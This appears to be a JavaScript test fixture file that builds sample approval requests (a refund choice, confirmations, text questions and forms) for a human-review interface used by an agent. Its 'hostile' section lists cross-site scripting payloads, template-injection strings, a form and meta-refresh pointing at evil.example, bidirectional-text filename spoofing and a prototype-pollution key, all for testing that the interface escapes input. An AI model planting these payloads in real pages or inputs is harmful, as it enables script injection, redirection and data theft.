/* The questions that the tests ask: one of each way of answering, and one in
 * which everything is hostile. */
let count = 0;

/* A title that no other question has. */
export function named(words) {
    count += 1;
    return `${words} ${count}`;
}

export const choices = [
    { value: "refund", label: "Refund 499.99 EUR", style: "primary",
      effect: "authorize", description: "The customer gets the money." },
    { value: "part", label: "Offer half", effect: "request_changes",
      description: "Nothing is paid; the agent asks again." },
    { value: "deny", label: "Refuse the refund", style: "danger",
      effect: "veto", reason: "required",
      description: "The customer gets a letter." },
];

export const context = {
    order: "12345", customer: "Alice", amount: 499.99, paid: true,
    items: [{ sku: "A-1", count: 2 }, { sku: "B-2", count: 1 }],
    coupon: null, notes: [], letter: `${"Dear shop, it broke. ".repeat(20)}`,
};

export function choice(more = {}) {
    return {
        title: named("Refund order 12345?"),
        question: "Shall order 12345 be refunded in full?",
        explanation: "The parcel arrived broken.\nTwo photos show it.",
        response_type: "choice", choices, context, severity: "low",
        timeout_seconds: 3600, fallback_policy: "complete_with_fallback",
        fallback_value: "deny",
        intent: { title: named("Handle the complaint"),
                  description: "Everything about order 12345.",
                  initiated_by: "Mara Lindqvist" },
        ...more,
    };
}

/* The same, short enough to be seen whole: of low risk, it is answered by one
 * press. */
export function short(more = {}) {
    return choice({ context: { order: "12345" }, ...more });
}

export function confirm(more = {}) {
    return {
        question: named("Send the letter to 1,204 customers?"),
        response_type: "confirm", severity: "low",
        context: { recipients: 1204 }, ...more,
    };
}

export function words(more = {}) {
    return {
        question: named("What shall the letter say first?"),
        response_type: "text", timeout_seconds: 900, ...more,
    };
}

export const fields = [
    { key: "name", label: "Name of the shop", required: true,
      min_length: 3, max_length: 40 },
    { key: "letter", label: "Letter", type: "text",
      help: "It is sent as it is." },
    { key: "count", label: "How many", type: "integer", required: true,
      min: 1, max: 10 },
    { key: "amount", label: "Amount in EUR", type: "number", required: true },
    { key: "urgent", label: "By courier", type: "boolean" },
    { key: "colour", label: "Colour", type: "enum", required: true,
      options: ["red", "green", { value: "blue", label: "Deep blue" }] },
    { key: "land", label: "Country", type: "enum", required: true,
      options: ["AT", "BE", "CH", "DE", "FR", "IT", "SE"] },
    { key: "days", label: "Days", type: "multi", required: true,
      options: ["Monday", "Tuesday", "Friday"] },
    { key: "mail", label: "Send a copy to", format: "email",
      required: true },
    { key: "page", label: "Page of the shop", format: "uri" },
    { key: "day", label: "Day", format: "date" },
    { key: "moment", label: "Not before", format: "date-time" },
    { key: "greeting", label: "Greeting", default: "Dear Alice" },
];

export function form(more = {}) {
    return {
        question: named("How shall the replacement be sent?"),
        response_type: "form", form: fields, severity: "medium",
        context: { order: "12345" }, ...more,
    };
}

/* ---- hostile -------------------------------------------------------- */

const zero = "\u200b", override = "\u202e", isolate = "\u2066";
const long = "W".repeat(10000);

/* Attacks that an agent may put in any text. The longest first is cut where a
 * field has a limit. */
export const attacks = [
    `<script>window.taken = 1</script>`,
    `"><img src=x onerror="window.taken=1">`,
    `'-alert(1)-'`, `</textarea></title><svg onload=alert(1)>`,
    `{{page.csrf}}{{{page.csrf}}}{{>nav}}`, `javascript:alert(1)`,
    `<a href="javascript:alert(1)">click</a>`,
    `<form action=//evil.example><input name=csrf>`,
    `<meta http-equiv=refresh content=0;url=//evil.example>`,
    `&lt;b&gt; &amp; &#x3c;script&#x3e;`,
    `${override}gpj.exe${zero}pay\u00ad${isolate}\u2028`,
    "\u0001\u001b[31m\u007f\u0085\ufeff\u{e0041}", "👩‍👩‍👧‍👦🏳️‍🌈 e\u0301\u0336",
    "مرحبا שלום", "\u0915".repeat(60),
];

function text(limit) {
    return [...(attacks.join(" ") + long)].slice(0, limit).join("");
}

/* Which attack is first differs, so that short fields get each of them. */
let turn = 0;
function brief(limit) {
    turn += 1;
    return [...(attacks[turn % attacks.length] + " " + long)]
        .slice(0, limit).join("");
}

function deep(levels) {
    let value = attacks[0];
    for (let i = 0; i < levels; i += 1) {
        value = i % 2 ? [value] : { [attacks[i % attacks.length]]: value };
    }
    return value;
}

function hostileFacts() {
    return {
        [attacks[1]]: attacks[0], [`k${zero}ey`]: long,
        [long.slice(0, 300)]: 1,
        "": "", lines: "a\nb\r\n\tc", deep: deep(20), all: attacks,
        number: 1e300, ["__proto__"]: { polluted: true },
        emoji: "👩‍👩‍👧‍👦".repeat(200),
    };
}

const hostileIntent = () => ({
    title: brief(200), description: text(2000), session_id: brief(200),
    task_id: brief(200), turn_id: brief(200), initiated_by: brief(200),
});

export function hostileChoice(more = {}) {
    return {
        title: text(200), question: text(4000), explanation: text(20000),
        severity: "critical",
        choices: attacks.slice(0, 8).map((attack, i) => ({
            value: `${attack}${i}`, label: brief(200),
            description: brief(1000), style: attack.slice(0, 40),
            metadata: { [attack]: attack },
            effect: ["authorize", "veto", "none"][i % 3],
        })),
        context: hostileFacts(), subject: { facts: hostileFacts() },
        timeout_seconds: 366 * 24 * 3600,
        fallback_policy: "complete_with_fallback",
        fallback_value: `${attacks[1]}1`, intent: hostileIntent(), ...more,
    };
}

export function hostileForm(more = {}) {
    const options = attacks.map((attack) => ({
        value: attack, label: brief(200) }));
    const field = (key, rest) => ({
        key: `${attacks[key % attacks.length]}${key}`.slice(0, 64),
        label: brief(200), help: brief(1000), ...rest });
    return {
        question: long.slice(0, 4000), response_type: "form",
        form: [
            field(1, { default: text(2000) }), field(2, { type: "text" }),
            field(3, { type: "enum", options: options.slice(0, 3) }),
            field(4, { type: "enum", options }),
            field(5, { type: "multi", options }),
            field(6, { type: "boolean" }),
            field(7, { default: override + zero }),
        ],
        context: hostileFacts(), intent: hostileIntent(), ...more,
    };
}
